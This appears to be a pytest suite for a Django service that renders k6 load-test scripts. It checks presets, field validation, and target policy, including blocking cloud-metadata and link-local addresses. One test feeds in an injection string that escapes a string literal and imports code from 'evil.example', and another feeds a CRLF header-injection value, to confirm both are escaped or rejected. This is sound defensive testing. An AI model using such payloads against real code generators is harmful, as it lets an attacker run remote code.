"""Builder input → validated plan → a readable k6 script that k6 itself accepts."""

from __future__ import annotations

import subprocess
from typing import Any

import orjson
import pytest
from django.conf import settings

from runs.api.serializers import BuilderRunSerializer
from runs.engine import k6
from runs.engine.presets import PRESETS
from runs.engine.script import render_script

pytestmark = pytest.mark.django_db


def plan_for(**data: Any) -> Any:
    serializer = BuilderRunSerializer(data={"url": "http://127.0.0.1:9/api", **data})
    assert serializer.is_valid(), serializer.errors
    return serializer.to_plan()


def errors_for(**data: Any) -> dict[str, Any]:
    serializer = BuilderRunSerializer(data={"url": "http://127.0.0.1:9/api", **data})
    assert not serializer.is_valid()
    return serializer.errors


def k6_inspect(script: str, tmp_path: Any) -> dict[str, Any]:
    k6.prepare_workdir(tmp_path, script)
    done = subprocess.run(
        [settings.K6_BIN, "inspect", "--execution-requirements", str(tmp_path / k6.SCRIPT_NAME)],
        capture_output=True,
        env=k6.k6_environment(tmp_path),
        timeout=30,
        check=True,
    )
    return orjson.loads(done.stdout)


def test_script_is_readable_and_carries_every_part(tmp_path: Any) -> None:
    plan = plan_for(
        method="POST",
        headers={"X-Team": "perf"},
        query={"page": "2"},
        body_type="json",
        body={"name": "ü"},
        vus=3,
        duration="20s",
        checks={"status": 201, "body_contains": "ok"},
        thresholds={"http_req_duration": ["p(95)<500"]},
    )
    script = render_script(plan)
    assert "import { check } from 'k6';" in script
    assert '"url": "http://127.0.0.1:9/api?page=2"' in script
    assert '"X-Team": "perf"' in script and '"Content-Type": "application/json"' in script
    assert "r.status === 201" in script and '"status is 201"' in script
    assert '"p(95)<500"' in script
    options = k6_inspect(script, tmp_path)
    assert options["maxVUs"] == 3
    assert options["thresholds"] == {"http_req_duration": ["p(95)<500"]}


def test_hostile_values_stay_inside_string_literals(tmp_path: Any) -> None:
    evil = "\"); import('https://evil.example/x.js'); (\""
    script = render_script(plan_for(method="POST", body_type="raw", body=evil, checks={"body_contains": evil}))
    escaped = "\\\"); import('https://evil.example/x.js'); (\\\""
    assert script.count(escaped) == 3  # body, check name and check needle, all escaped
    assert evil not in script
    k6_inspect(script, tmp_path)  # still a valid script: the value is data, not code


@pytest.mark.parametrize("preset", PRESETS)
def test_every_preset_is_a_valid_k6_scenario(preset: str, tmp_path: Any) -> None:
    plan = plan_for(preset=preset, vus=20, duration="100s")
    options = k6_inspect(render_script(plan), tmp_path)
    scenario = options["scenarios"][preset if preset not in ("smoke",) else "constant"]
    assert options["maxVUs"] == plan.shape.max_vus
    if preset == "smoke":
        assert plan.shape.max_vus == 2
    elif preset == "breakpoint":
        assert scenario["executor"] == "ramping-arrival-rate"
        assert options["thresholds"]["http_req_failed"][0]["abortOnFail"] is True
    else:
        targets = [stage["target"] for stage in scenario["stages"]]
        assert max(targets) == 20 and targets[-1] == 0
        assert plan.shape.planned_duration_s == 100


def test_spike_jumps_tenfold_and_stress_steps_up() -> None:
    spike = [s["target"] for s in plan_for(preset="spike", vus=50, duration="100s").shape.scenario["stages"]]
    assert spike[:4] == [5, 5, 50, 50] and spike[-1] == 0
    stress = [s["target"] for s in plan_for(preset="stress", vus=40, duration="100s").shape.scenario["stages"]]
    assert stress == [20, 20, 30, 30, 40, 40, 0]


def test_preset_without_duration_uses_its_default() -> None:
    assert plan_for(preset="load").shape.planned_duration_s == 300


@pytest.mark.parametrize(
    "data, field, words",
    [
        ({"url": "ftp://x/"}, "url", "http://"),
        ({"url": "http://169.254.169.254/latest/meta-data"}, "url", "metadata"),
        ({"url": "http://[fe80::1]/"}, "url", "link-local"),
        ({"method": "TRACE"}, "method", "not a valid choice"),
        ({"vus": 0}, "vus", "greater than or equal to 1"),
        ({"vus": 100_000}, "vus", "MAX_VUS"),
        ({"duration": "2h"}, "duration", "MAX_DURATION"),
        ({"duration": "soon"}, "duration", "not a duration"),
        ({"stages": [{"duration": "10s", "target": 5}], "preset": "load"}, "stages", "either stages or a preset"),
        ({"stages": [{"duration": "10s", "target": 0}]}, "stages", "above 0"),
        ({"thresholds": {"http_req_duration": ["p95 < 500"]}}, "thresholds", "p(95)<500"),
        ({"thresholds": {"bad metric": ["rate<0.1"]}}, "thresholds", "metric name"),
        ({"headers": {"X-A": "v\r\nInjected: 1"}}, "headers", "line break"),
        ({"body_type": "json", "body": {"a": 1}}, "body", "carry no body"),
        ({"method": "POST", "body_type": "form", "body": "a=1"}, "body", "object of field names"),
        ({"preset": "chaos"}, "preset", "not a valid choice"),
    ],
)
def test_invalid_input_gets_a_field_level_message(data: dict[str, Any], field: str, words: str) -> None:
    errors = errors_for(**data)
    assert field in errors, errors
    assert words in str(errors[field])


def test_loopback_is_refused_when_policy_forbids_it(settings: Any) -> None:
    settings.ALLOW_LOOPBACK_TARGETS = False
    assert "ALLOW_LOOPBACK_TARGETS" in str(errors_for()["url"])
    settings.TARGET_ALLOWLIST = ["127.0.0.1/32"]
    plan_for()  # allow-listed again


def test_policy_flags_block_metadata_and_carve_out_the_allowlist(settings: Any) -> None:
    from runs.engine.targets import k6_policy_args

    settings.ALLOW_LOOPBACK_TARGETS = False
    settings.TARGET_ALLOWLIST = ["127.0.0.1"]
    args = k6_policy_args()
    blacklist = args[args.index("--blacklist-ip") + 1].split(",")
    assert "169.254.0.0/16" in blacklist
    assert "127.0.0.1/32" not in blacklist and "127.0.0.2/31" in blacklist
